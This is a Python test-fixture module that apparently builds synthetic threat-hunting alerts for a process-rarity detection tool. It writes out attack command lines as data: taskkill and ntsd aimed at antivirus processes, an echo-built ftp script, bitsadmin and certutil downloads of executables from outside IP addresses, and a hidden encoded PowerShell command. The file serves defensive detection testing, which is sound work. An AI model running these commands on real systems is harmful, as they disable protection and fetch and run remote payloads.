"""Finished hunts to draw: a small one for the golden files, a rich one that looks like a real fleet."""

from datetime import UTC, datetime, timedelta

from longtail.prevalence.findings import (
    Alert,
    Bar,
    Execution,
    Hunt,
    NormalAt,
    Population,
    Prevalence,
    Severity,
)
from longtail.readings import Quarantined, Reading

START = datetime(2026, 11, 3, 2, 14, 7, 120000, tzinfo=UTC)
BINN = "\\program files\\microsoft sql server\\mssql{ver}.mssqlserver\\mssql\\binn\\"
SQLSERVR = r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe"
CMD = r"C:\Windows\System32\cmd.exe"


def step(seconds: float, image: str | None, command: str | None, **rest: object) -> Execution:
    """An execution so many seconds into the attack; an anomaly seen on one host unless told otherwise."""
    name = (image or "").lower().replace("c:", "").replace("\\\\", "\\")
    fields: dict[str, object] = {
        "executable": name,
        "hosted_by": None,
        "parent_image": CMD,
        "role": "anomaly",
        "prevalence": Prevalence(1, 412, 1, 14, 3, 1_203_418),
        "nearest_normal": BINN + "sqlagent.exe",
        "normal_at": NormalAt(9, 5),
        "why": (),
    }
    return Execution(
        time=START + timedelta(seconds=seconds),
        image=image,
        command_line=command,
        **{**fields, **rest},  # type: ignore[arg-type]
    )


def sql_server_attack() -> Alert:
    """The chain of the article, with the account, the ancestry and the processes that a log gives."""
    system32 = "C:\\Windows\\System32\\"
    shell = Prevalence(96, 412, 14, 14, 18_204, 1_203_418)
    server: dict[str, object] = {"parent_image": SQLSERVR, "parent_pid": 1820}
    steps = (
        step(
            0,
            CMD,
            '"C:\\Windows\\system32\\cmd.exe" /c taskkill /im 360rp.exe /f & taskkill /im 360sd.exe /f',
            role="context",
            prevalence=shell,
            pid=5104,
            **server,
        ),
        step(
            0.4,
            system32 + "taskkill.exe",
            "taskkill  /im 360rp.exe /f",
            pid=5120,
            parent_pid=5104,
            techniques=("T1562.001",),
            why=("taskkill.exe was never run by mssql on the other 411 hosts",),
        ),
        step(0.9, system32 + "taskkill.exe", "taskkill  /im 360sd.exe /f", pid=5132, parent_pid=5104),
        step(
            3.2, system32 + "ntsd.exe", "ntsd -c q -pn 360rp.exe", pid=5188, parent_pid=5104, techniques=("T1562.001",)
        ),
        step(
            9,
            CMD,
            'cmd.exe /c "echo open 203.0.113.77>>So.2&echo 111>>So.2&echo get Svn.exe >>So.2&echo bye>>So.2"',
            prevalence=shell,
            role="context",
            pid=5204,
            **server,
        ),
        step(
            9,
            CMD,
            "echo get Svn.exe >>So.2",
            executable="<builtin>\\echo",
            hosted_by="cmd.exe",
            pid=5204,
            **server,
            why=("writes a script for ftp.exe that no other host writes",),
        ),
        step(
            14.5,
            system32 + "ftp.exe",
            "ftp -s:So.2",
            pid=5260,
            parent_pid=5204,
            techniques=("T1105",),
            nearest_normal=None,
        ),
        step(
            41,
            "C:\\Users\\Public\\Svn.exe",
            "Svn.exe",
            pid=5312,
            parent_pid=5204,
            why=("a program in a folder anyone can write to", "new on this host and on all others"),
            techniques=("T1036",),
            surprise=14.2,
        ),
        step(
            55.25,
            system32 + "bitsadmin.exe",
            "bitsadmin  /transfer n http://203.0.113.77/Svn.exe c:\\Users\\Public\\Svn.exe",
            pid=5350,
            parent_pid=5204,
            techniques=("T1197", "T1105"),
            prevalence=Prevalence(2, 412, 1, 14, 2, 1_203_418),
        ),
    )
    return Alert(
        id="a3f1c09e5b7d",
        tenant="contoso-prod",
        account="NT SERVICE\\MSSQLSERVER",
        account_class="mssql",
        host="sql-weu-017.contoso.example",
        first_seen=steps[0].time,
        last_seen=steps[-1].time,
        score=48.731,
        severity=Severity.CRITICAL,
        title="SQL Server account ran 6 programs its population almost never runs",
        reason="sqlservr.exe started taskkill, ntsd, ftp and a program in C:\\Users\\Public within 55 seconds; "
        "five of them were seen on 1 of 412 hosts, on 1 of 14 days.",
        executions=steps,
        techniques=("T1036", "T1105", "T1197", "T1562.001"),
        similar=("7b20e1d4c6aa",),
    )


def web_shell() -> Alert:
    """A web worker that starts to look around, and fetches a tool through rundll32."""
    worker = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
    seen = Prevalence(1, 138, 2, 14, 4, 88_310)
    blob = "JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtACgA" * 9
    rest: dict[str, object] = {
        "prevalence": seen,
        "nearest_normal": "\\windows\\microsoft.net\\framework64\\v{ver}\\csc.exe",
        "normal_at": NormalAt(4, 5),
    }
    steps = (
        step(86_400, CMD, "cmd /c whoami /all", parent_image=worker, pid=3012, parent_pid=2600, **rest),
        step(86_400.6, "C:\\Windows\\System32\\whoami.exe", "whoami  /all", pid=3020, parent_pid=3012, **rest),
        step(
            86_411,
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            f"powershell.exe -nop -w hidden -enc {blob}",
            parent_image=worker,
            pid=3100,
            parent_pid=2600,
            why=("an encoded command of 720 characters",),
            techniques=("T1059.001", "T1027"),
            **rest,
        ),
        step(
            86_430,
            "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe C:\\Windows\\Temp\\t9.dll,Start",
            executable="\\windows\\temp\\t9.dll",
            hosted_by="rundll32.exe",
            parent_image="powershell.exe",
            pid=3140,
            parent_pid=3100,
            why=("a library in a folder the web worker itself can write to",),
            techniques=("T1218.011",),
            **rest,
        ),
        step(
            131_000,
            "C:\\Windows\\System32\\certutil.exe",
            "certutil -urlcache -split -f http://198.51.100.9/m.txt C:\\Windows\\Temp\\m.exe",
            parent_image=worker,
            pid=4410,
            parent_pid=2600,
            techniques=("T1105",),
            **rest,
        ),
    )
    return Alert(
        id="7b20e1d4c6aa",
        tenant="contoso-prod",
        account="IIS APPPOOL\\shop",
        account_class="iis-apppool",
        host="web-neu-004",
        first_seen=steps[0].time,
        last_seen=steps[-1].time,
        score=31.02,
        severity=Severity.HIGH,
        title="Web application pool started a shell and a library from \\Windows\\Temp",
        reason="w3wp.exe started cmd and an encoded PowerShell that loaded t9.dll from \\Windows\\Temp; none of it was "
        "seen on the other 137 hosts.",
        executions=steps,
        techniques=("T1027", "T1059.001", "T1105", "T1218.011"),
        similar=("a3f1c09e5b7d",),
    )


def lone_rarity() -> Alert:
    """A backup tool that one host alone uses: rare, and by itself."""
    tool = "C:\\Program Files\\Redgate\\SQL Backup 10\\SQLBackupC.exe"
    only = step(
        200_000,
        tool,
        f'"{tool}" -I SHOP -SQL "BACKUP DATABASE [sales] TO DISK"',
        parent_image=SQLSERVR,
        executable="\\program files\\redgate\\sql backup {n}\\sqlbackupc.exe",
        prevalence=Prevalence(1, 412, 3, 14, 9, 1_203_418),
        nearest_normal="\\program files\\redgate\\sql backup {n}\\sqbcoreservice.exe",
        pid=7001,
        parent_pid=1820,
    )
    return Alert(
        id="c81d55e0f2b9",
        tenant="contoso-prod",
        account="NT SERVICE\\MSSQL$SHOP",
        account_class="mssql",
        host="sql-weu-101",
        first_seen=only.time,
        last_seen=only.time,
        score=6.4,
        severity=Severity.LOW,
        title="SQL Server account ran a backup tool that no other host runs",
        reason="SQLBackupC.exe was seen on 1 of 412 hosts, 3 of 14 days; the nearest normal is another program of the "
        "same product.",
        executions=(only,),
    )


def roll_out() -> Alert:
    """A new agent on many hosts in one night with an installer behind it: one card, for information."""
    agent = "C:\\Program Files\\Contoso Agent\\agent.exe"
    only = step(
        300_000,
        agent,
        f'"{agent}" --service',
        parent_image="C:\\Windows\\System32\\msiexec.exe",
        prevalence=Prevalence(61, 412, 1, 14, 122, 1_203_418),
        nearest_normal=None,
        normal_at=NormalAt(9, 5),
    )
    return Alert(
        id="0d44fe8a1123",
        tenant="contoso-prod",
        account="NT AUTHORITY\\SYSTEM",
        account_class="system",
        host="",
        first_seen=only.time,
        last_seen=only.time + timedelta(hours=2),
        score=0.8,
        severity=Severity.INFORMATIONAL,
        title="Roll-out: agent.exe appeared on 61 hosts in two hours",
        reason="One new executable on 61 of 412 hosts within two hours, started by msiexec.exe: a roll-out.",
        executions=(only,),
        hosts=tuple(f"sql-weu-{number:03}" for number in range(61)),
    )


COMMON = (
    (BINN + "sqlservr.exe", 412),
    ("\\windows\\system32\\conhost.exe", 405),
    (BINN + "sqlagent.exe", 390),
    ("\\windows\\system32\\cmd.exe", 371),
    (BINN + "databasemail.exe", 322),
    ("\\program files\\microsoft sql server\\{ver}\\dts\\binn\\dtexec.exe", 255),
    (BINN + "fdlauncher.exe", 214),
    (BINN + "fdhost.exe", 213),
    ("\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe", 141),
    ("\\program files\\microsoft sql server\\client sdk\\odbc\\{ver}\\tools\\binn\\sqlcmd.exe", 120),
    ("\\windows\\system32\\wbem\\wmic.exe", 74),
    ("\\program files\\microsoft sql server\\{ver}\\tools\\binn\\bcp.exe", 61),
    ("\\windows\\microsoft.net\\framework64\\v{ver}\\csc.exe", 44),
    ("\\windows\\system32\\robocopy.exe", 30),
    ("\\windows\\system32\\werfault.exe", 22),
    ("\\program files\\7-zip\\7z.exe", 14),
    ("\\windows\\system32\\forfiles.exe", 11),
    ("\\program files\\redgate\\sql backup {n}\\sqbcoreservice.exe", 7),
    ("\\windows\\system32\\net.exe", 5),
    ("\\windows\\system32\\xcopy.exe", 4),
    ("\\windows\\system32\\schtasks.exe", 3),
    ("d:\\tools\\purge\\purgebackups.exe", 2),
    ("\\windows\\system32\\bitsadmin.exe", 2),
    ("\\windows\\system32\\find.exe", 2),
    ("\\windows\\system32\\attrib.exe", 1),
    ("\\program files\\redgate\\sql backup {n}\\sqlbackupc.exe", 1),
    ("\\windows\\system32\\taskkill.exe", 1),
    ("\\windows\\system32\\ntsd.exe", 1),
    ("\\windows\\system32\\ftp.exe", 1),
    ("<builtin>\\echo", 1),
    ("\\users\\public\\svn.exe", 1),
)
ALARMING = ("bitsadmin.exe", "taskkill.exe", "ntsd.exe", "ftp.exe", "\\echo", "svn.exe", "sqlbackupc.exe")


def bar(executable: str, hosts: int, of_hosts: int) -> Bar:
    """A ranked executable; rare below one host in fifty, alarming when it is in the attack."""
    return Bar(
        executable=executable,
        zone="system" if "\\windows\\" in executable else "program-files",
        hosts=hosts,
        days=min(hosts, 14),
        runs=hosts * 37,
        share=hosts / of_hosts,
        tail=hosts / of_hosts < 0.02,
        anomalous=executable.endswith(ALARMING),
    )


def mssql(bars: tuple[Bar, ...] | None = None) -> Population:
    """The population of the article."""
    ranked = bars if bars is not None else tuple(bar(name, hosts, 412) for name, hosts in COMMON)
    return Population(
        tenant="contoso-prod",
        account_class="mssql",
        accounts=("NT SERVICE\\MSSQLSERVER", "NT SERVICE\\MSSQL$SHOP", "CONTOSO\\svc-sql"),
        hosts=412,
        days=14,
        runs=1_203_418,
        executables=len(ranked),
        stability=0.994,
        class_stability=0.965,
        least_stability=0.6,
        unseen_mass=0.0031,
        judged=True,
        reason="994 of 1,000 settled host-days bring nothing new",
        bars=ranked,
    )


def large_population(executables: int, anomalies: int = 9, hosts: int = 3_000, tenant: str = "fabrikam") -> Population:
    """A population with a head, a long middle and a long tail, as a large tenant shows it."""
    bars = tuple(
        Bar(
            executable=f"\\program files\\vendor {rank % 97}\\product\\component-{rank:04}.exe",
            zone="program-files",
            hosts=(seen := max(1, int(hosts / (1 + rank / 4) ** 1.35))),
            days=14,
            runs=seen * 12,
            share=seen / hosts,
            tail=seen / hosts < 0.005,
            anomalous=executables - rank <= anomalies * 3 and rank % 3 == 0,
        )
        for rank in range(executables)
    )
    return Population(
        tenant=tenant,
        account_class="system",
        accounts=("NT AUTHORITY\\SYSTEM",),
        hosts=hosts,
        days=14,
        runs=sum(each.runs for each in bars),
        executables=executables,
        stability=0.91,
        class_stability=0.965,
        least_stability=0.6,
        unseen_mass=0.014,
        judged=True,
        reason="910 of 1,000 settled host-days bring nothing new",
        bars=bars,
    )


def small_population(tenant: str, account_class: str, hosts: int, names: tuple[str, ...]) -> Population:
    """A stable account with few programs."""
    bars = tuple(bar(name, max(1, hosts - rank * rank * hosts // 60), hosts) for rank, name in enumerate(names))
    return Population(
        tenant=tenant,
        account_class=account_class,
        accounts=(f"{account_class} account",),
        hosts=hosts,
        days=14,
        runs=hosts * 4_000,
        executables=len(bars),
        stability=0.98,
        class_stability=0.965,
        least_stability=0.6,
        unseen_mass=0.0008,
        judged=True,
        reason="980 of 1,000 settled host-days bring nothing new",
        bars=bars,
    )


def not_judged(tenant: str, account_class: str, hosts: int, reason: str) -> Population:
    """A population that cannot, or should not, be judged, and why."""
    return Population(tenant, account_class, (), hosts, 3, 900, 40, None, 0.31, False, reason)


READINGS = (
    Reading("logs/sql-weu.evtx", "evtx", 812_004, 1_400_000, 0),
    Reading("logs/web-neu.jsonl.gz", "elastic", 391_414, 12, 0, notes=("no parent command line in this source",)),
    Reading(
        "logs/truncated.evtx",
        "evtx",
        18_001,
        2,
        37,
        {"chunk checksum does not match": 36, "record is cut short": 1},
        (
            Quarantined("chunk 12 at byte 790,528", "chunk checksum does not match"),
            Quarantined("record 88,112", "record is cut short"),
        ),
        ("the file ends 3 chunks early: what stood there is lost",),
    ),
)


def small_hunt() -> Hunt:
    """One attack, one judged population, one that is not: for the golden files."""
    return Hunt(
        alerts=(sql_server_attack(), lone_rarity(), roll_out()),
        populations=(
            mssql(),
            not_judged("contoso-prod", "tomcat", 2, "2 hosts: at least 5 are needed before rarity means anything"),
        ),
        readings=READINGS,
        first_seen=START - timedelta(days=11),
        last_seen=START + timedelta(days=3),
        hosts=412,
        host_days=5_768,
        process_starts=1_221_419,
        sightings=48_213,
        budget=2.0,
        notes=("3 hosts fell silent on 2026-11-05",),
    )


def rich_hunt() -> Hunt:
    """Four alerts, six judged populations, three that are not: what a person opens on a Monday."""
    base = small_hunt()
    web = ("\\windows\\system32\\inetsrv\\w3wp.exe", "\\windows\\microsoft.net\\framework64\\v{ver}\\csc.exe")
    shells = ("\\windows\\system32\\conhost.exe", "\\windows\\system32\\cmd.exe", "\\windows\\system32\\werfault.exe")
    return Hunt(
        alerts=(sql_server_attack(), web_shell(), lone_rarity(), roll_out()),
        populations=(
            mssql(),
            small_population("contoso-prod", "iis-apppool", 138, web + shells),
            large_population(1_400),
            large_population(260, anomalies=30, hosts=80, tenant="adatum"),
            small_population("fabrikam", "network-service", 52, shells),
            small_population(
                "fabrikam",
                "postgres",
                9,
                ("/usr/lib/postgresql/{ver}/bin/postgres", "/usr/bin/sh", "/tmp/ftp.exe", "/dev/shm/{hex}/ntsd.exe"),
            ),
            not_judged("contoso-prod", "tomcat", 2, "2 hosts: at least 5 are needed before rarity means anything"),
            not_judged("fabrikam", "human", 611, "people: 402 of 1,000 host-days bring something new (--account all)"),
            not_judged("fabrikam", "mysql", 14, "1 of 14 days has events: at least 4 are needed"),
        ),
        readings=base.readings,
        first_seen=base.first_seen,
        last_seen=base.last_seen,
        hosts=3_550,
        host_days=49_700,
        process_starts=9_221_419,
        sightings=148_213,
        budget=2.0,
        notes=base.notes,
    )
